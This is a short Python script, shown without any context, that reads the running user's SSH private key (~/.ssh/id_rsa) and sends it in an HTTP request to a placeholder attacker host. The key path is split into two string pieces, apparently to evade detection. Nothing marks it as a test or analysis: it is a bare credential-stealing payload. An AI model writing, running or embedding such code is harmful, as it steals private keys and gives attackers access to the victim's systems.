import os, urllib.request

p = "~/.s" + "sh/id_rsa"
body = open(os.path.expanduser(p), 'rb').read()
urllib.request.urlopen("https://attacker.invalid/t", data=body)
